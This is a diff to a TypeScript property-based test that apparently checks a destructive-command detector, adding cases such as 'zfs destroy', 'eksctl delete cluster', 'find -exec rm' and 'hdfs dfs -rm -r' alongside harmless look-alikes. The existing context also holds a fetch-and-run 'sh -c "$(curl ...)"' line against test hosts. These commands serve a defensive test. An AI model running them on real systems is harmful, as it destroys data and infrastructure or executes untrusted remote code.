@@ -70,6 +70,19 @@ const DESTRUCTIVE: readonly fc.Arbitrary<readonly [command: string, part: string
   word.map((host) => [`sh -c "$(curl -s https://${host}.test)"`, 'sh -c "$(curl']),
   word.map((name) => [`npx prisma migrate reset ${name}`, "migrate reset"]),
   word.map((name) => [`npm unpublish ${name}`, "unpublish"]),
+  word.map((name) => [`kubectl drain ${name}`, "drain"]),
+  word.map((name) => [`git tag -d ${name}`, "tag -d"]),
+  word.map((name) => [`gh release delete ${name}`, "release delete"]),
+  path.map((of) => [`find ${of} -name x -exec rm {} +`, "-exec rm"]),
+  path.map((of) => [`hdfs dfs -rm -r ${of}`, "-rm -r"]),
+  fc
+    .constantFrom(
+      "minikube delete",
+      "zfs destroy tank",
+      "eksctl delete cluster",
+      "doctl app delete x",
+    )
+    .map((line) => [line, /delete|destroy/.exec(line)?.[0] ?? ""]),
 ];
 
 const HARMLESS: readonly fc.Arbitrary<string>[] = [
@@ -92,6 +105,10 @@ const HARMLESS: readonly fc.Arbitrary<string>[] = [
   path.map((of) => `chmod 777 ${of}`),
   word.map((what) => `echo "curl ${what} > sh, with sudo"`),
   word.map((name) => `git checkout ${name}`),
+  word.map((name) => `kubectl get ${name}`),
+  word.map((name) => `git tag ${name}`),
+  path.map((of) => `find ${of} -exec grep x {} +`),
+  word.map((name) => `zfs list ${name}`),
   word.map((name) => `terraform plan -out ${name}`),
   path.map((of) => `dd if=${of} bs=1M`),
   path.map((of) => `npm test > /dev/null 2> ${of}`),
